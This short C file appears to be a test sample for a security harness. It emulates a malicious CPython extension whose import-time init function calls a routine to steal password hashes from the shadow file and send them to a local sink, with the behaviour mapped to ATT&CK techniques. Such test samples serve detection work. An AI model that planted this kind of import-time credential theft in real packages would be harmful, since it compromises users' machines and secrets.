/* SPDX-License-Identifier: (BSD-2-Clause OR GPL-2.0-only) */
/* scnpymod.so: a CPython extension module, as a malicious package ships
 * one, with no constructor: its work is in the init that `import` calls
 * right after the module's dlopen (PyInit_NAME). It steals the password
 * hashes and sends them to the runner's sink on 127.0.0.1. Needs no
 * Python headers: the init returns NULL, and the interpreter raises
 * SystemError afterwards, too late.
 * ATT&CK: T1195.001 (a compromised dependency), T1059.006 (Python),
 * T1003.008 exfiltrated over the C2 channel (T1041).
 * Proof: NAME.ran first; NAME.done once the sink acknowledged every byte. */
#include "scn.h"

__attribute__((visibility("default"))) void *PyInit_scnpymod(void)
{
	scn_mark("ran");
	scn_steal_shadow();
	return NULL;
}
